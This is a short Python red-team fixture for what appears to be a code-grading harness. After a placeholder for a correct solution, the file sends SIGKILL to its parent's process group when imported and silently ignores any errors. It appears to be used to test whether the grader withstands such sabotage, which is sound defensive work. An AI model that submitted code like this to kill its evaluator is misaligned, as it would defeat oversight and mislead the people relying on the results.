"""Red team: Kills its parent's process group at import; otherwise correct.

examples/correct.py goes where # __CORRECT_SOLUTION__ stands (tests/test_redteam.py
assembles it); the attack follows."""

# __CORRECT_SOLUTION__

import os
import signal

try:
    if os.getppid() > 1:
        os.killpg(os.getpgid(os.getppid()), signal.SIGKILL)
except OSError:
    pass
